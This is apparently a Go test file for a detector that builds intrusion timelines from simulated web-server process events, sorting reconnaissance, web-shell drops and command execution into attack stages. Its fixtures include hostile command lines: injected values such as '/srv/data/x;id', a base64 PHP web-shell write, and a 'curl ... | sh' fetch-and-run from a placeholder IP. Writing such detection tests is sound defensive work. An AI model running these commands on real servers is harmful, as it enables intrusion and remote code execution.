package timeline

import (
	"slices"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// TestOpeningProbes: the intrusion's first commands through the web
// server that only check who and where the code runs (id, uname -a) are
// the exploit being tested (stage 1); once the chain has done anything
// else (a web shell written), the same id is a command run through the
// foothold (stage 3), and a command that does more than check stays where
// it is.
func TestOpeningProbes(t *testing.T) {
	s := newSim(t, Options{})
	s.webServer()
	probe := shellOf(200, worker1, "/var/www/html")
	probeEx := s.exec(1, probe, "sh", "-c", "/srv/data/x;id")
	idEx := s.exec(1.01, child(201, probe), "id")
	fProbe := s.find(probeEx, detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
	fProbe.Attack = []string{"T1059.004", "T1505.003"}
	fID := s.find(idEx, detect.StageCommandExecution, detect.SeverityLow, "Discovery By Web User")
	uname := who{pid: 210, ppid: worker2.pid, uid: 33, cwd: "/var/www/html"}
	fUname := s.find(s.exec(2, uname, "uname", "-a"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
	drop := shellOf(220, worker1, "/var/www/html")
	fDrop := s.find(s.exec(3, drop, "sh", "-c", "echo PD9waHAg | base64 -d > /var/www/html/x.php"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
	fWrite := s.find(s.write(3.01, child(221, drop), parser.KindFileWrite, "/var/www/html/x.php"), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written")
	later := shellOf(230, worker2, "/var/www/html")
	fLater := s.find(s.exec(5, later, "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
	r := s.build()
	c := chainOf(r, fProbe)
	wantIn(t, r, c, "one intrusion", fID, fUname, fDrop, fWrite, fLater)
	want := map[*detect.Finding]detect.Stage{
		fProbe: detect.StageInitialAccess, fID: detect.StageInitialAccess, fUname: detect.StageInitialAccess,
		fDrop: detect.StageSuspiciousSpawn, fWrite: detect.StageWebshellUpload, fLater: detect.StageCommandExecution,
	}
	for _, g := range c.Findings {
		for f, st := range want {
			if g.Event == f.Event && g.RuleID == f.RuleID && g.Stage != st {
				dumpChains(t, r)
				t.Errorf("%s pid %d on stage %d, want %d (%s)", f.Title, f.Event.PID, g.Stage, st, g.Reason)
			}
			// the exploit of the application, not a web shell
			if f == fProbe && g.Event == f.Event && (!slices.Contains(g.Attack, "T1190") || slices.Contains(g.Attack, "T1505.003")) {
				t.Errorf("the probe's techniques %v, want T1190 and no T1505.003", g.Attack)
			}
		}
	}
}

// TestProbeTree: which commands a server ran test an exploit.
func TestProbeTree(t *testing.T) {
	proc := func(args []string, children ...*parser.Process) *parser.Process {
		exe := "/usr/bin/" + args[0]
		if args[0] == "sh" {
			exe = "/usr/bin/dash"
		}
		p := &parser.Process{Exe: exe, Args: args, Execs: []parser.Exec{{Exe: exe, Args: args}}, Children: children}
		return p
	}
	for _, c := range []struct {
		name string
		root *parser.Process
		want bool
	}{
		{"check appended to the application's data", proc([]string{"sh", "-c", "/srv/archive/x;id"}, proc([]string{"id"})), true},
		{"check appended to the application's command", proc([]string{"sh", "-c", "ping -c 1 127.0.0.1;uname -a"}, proc([]string{"ping", "-c", "1", "127.0.0.1"}), proc([]string{"uname", "-a"})), true},
		{"argv exec of id (a gadget, open of |id)", proc([]string{"id"}), true},
		// a shell whose whole code is checks: the exploit's test when it
		// opens the chain, a web shell's use after (openingProbes decides)
		{"a shell's whole code one check", proc([]string{"sh", "-c", "id"}, proc([]string{"id"})), true},
		{"a shell's whole code checks", proc([]string{"sh", "-c", "id; uname -a; hostname"}, proc([]string{"id"}), proc([]string{"uname", "-a"})), true},
		{"a web shell's recon that reads", proc([]string{"sh", "-c", "id; ls -la /srv"}, proc([]string{"id"}), proc([]string{"ls", "-la", "/srv"})), false},
		{"injected command that reads", proc([]string{"sh", "-c", "/srv/archive/x;cat /etc/passwd"}, proc([]string{"cat", "/etc/passwd"})), false},
		{"the application's own command", proc([]string{"sh", "-c", "/usr/local/bin/yardprint --ticket 1"}), false},
		{"a download", proc([]string{"curl", "-s", "http://x/"}), false},
	} {
		if got := probeTree(c.root); got != c.want {
			t.Errorf("%s: probeTree = %v, want %v", c.name, got, c.want)
		}
	}
}

// TestOpeningProbeOfCGIScript: a site script a CGI host runs that starts a
// check none of its earlier runs started (a stored injection sourced by
// the script) is the exploit tested; a check it always runs is its own.
func TestOpeningProbeOfCGIScript(t *testing.T) {
	for _, c := range []struct {
		name      string
		earlierID bool
		want      detect.Stage
	}{
		{"new to the script", false, detect.StageInitialAccess},
		{"the script's own", true, detect.StageCommandExecution},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{WebServers: []string{"fcgiwrap"}})
			host := who{pid: 100, ppid: 1, uid: 2101, exe: "/usr/sbin/fcgiwrap", cwd: "/srv/cgi-bin/admin"}
			s.touch(0, host)
			run := func(at float64, pid int, kids ...[]string) *parser.Event {
				cgi := who{pid: pid, ppid: 100, uid: 2101, cwd: "/srv/cgi-bin/admin"}
				s.exec(at, cgi, "/bin/sh", "/srv/cgi-bin/admin/sync.cgi")
				var last *parser.Event
				for i, k := range kids {
					last = s.exec(at+0.01*float64(i+1), child(pid+1+i, cgi), k...)
				}
				return last
			}
			if c.earlierID {
				run(1, 200, []string{"perl", "-e", "1"}, []string{"id"})
			} else {
				run(1, 200, []string{"perl", "-e", "1"}, []string{"nc", "-z", "h", "22"})
			}
			idEx := run(5, 300, []string{"perl", "-e", "1"}, []string{"id"})
			fID := s.find(idEx, detect.StageCommandExecution, detect.SeverityLow, "Discovery By Web User")
			// what the intrusion then does through the same script run
			fetch := s.exec(5.5, child(310, who{pid: 300, ppid: 100, uid: 2101, cwd: "/srv/cgi-bin/admin"}), "/bin/sh", "-c", "curl -s http://198.51.100.9/x | sh")
			fF := s.find(fetch, detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
			r := s.build()
			ch := chainOf(r, fID)
			if ch == nil || chainOf(r, fF) != ch {
				dumpChains(t, r)
				t.Fatal("one script run's acts are one chain (ancestry)")
			}
			for _, g := range ch.Findings {
				if g.Event == idEx && g.Stage != c.want {
					t.Errorf("id on stage %d, want %d (%s)", g.Stage, c.want, g.Reason)
				}
			}
		})
	}
}

// TestOpeningProbeBelowHelper: the exploit's first check can run below an
// application helper the server starts for a request (Ghostscript
// previewing a PostScript file named .pdf, shop-specsheet): the check is
// the helper's child, new to every earlier run of that helper, and the
// upload of the file the helper ran, already the way in, does not end the
// opening. A check the helper always runs is its own.
func TestOpeningProbeBelowHelper(t *testing.T) {
	for _, c := range []struct {
		name      string
		earlierID bool
		want      detect.Stage
	}{
		{"new to the helper", false, detect.StageInitialAccess},
		{"the helper's own", true, detect.StageCommandExecution},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			gs := func(at float64, pid int, w who) who {
				h := who{pid: pid, ppid: w.pid, uid: 33, cwd: "/var/www/html"}
				s.exec(at, h, "gs", "-q", "-dNOSAFER", "-sDEVICE=png16m", "-o", "/tmp/p.png", "/var/www/html/media/specs/a.pdf")
				return h
			}
			early := gs(1, 300, worker2)
			if c.earlierID {
				sh := child(301, early)
				s.exec(1.1, sh, "sh", "-c", "id; uname -a")
				s.exec(1.11, child(302, sh), "id")
			}
			up := s.find(s.write(4, worker1, parser.KindFileWrite, "/var/www/html/media/specs/MUG.pdf"), detect.StageInitialAccess, detect.SeverityLow, "File Uploaded")
			h := gs(5, 400, worker1)
			sh := child(401, h)
			probe := s.find(s.exec(5.1, sh, "sh", "-c", "id; uname -a; pwd"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
			s.exec(5.11, child(402, sh), "id")
			s.exec(5.12, child(403, sh), "uname", "-a")
			s.exec(5.13, child(404, sh), "pwd")
			drop := s.find(s.write(9, child(410, worker1), parser.KindFileWrite, "/var/www/html/media/specs/.p.php"), detect.StageWebshellUpload, detect.SeverityHigh, "Script Written")
			_ = up
			_ = drop
			r := s.build()
			for _, g := range chainOf(r, probe).Findings {
				if g.Event == probe.Event && g.RuleID == probe.RuleID && g.Stage != c.want {
					dumpChains(t, r)
					t.Errorf("the check below the helper on stage %d, want %d (%s)", g.Stage, c.want, g.Reason)
				}
				if g.Event == probe.Event && c.want == detect.StageInitialAccess && !strings.Contains(g.Reason, "started by the server's helper pid 400 (gs), only checks") {
					t.Errorf("reason %q: want the helper named", g.Reason)
				}
			}
		})
	}
}
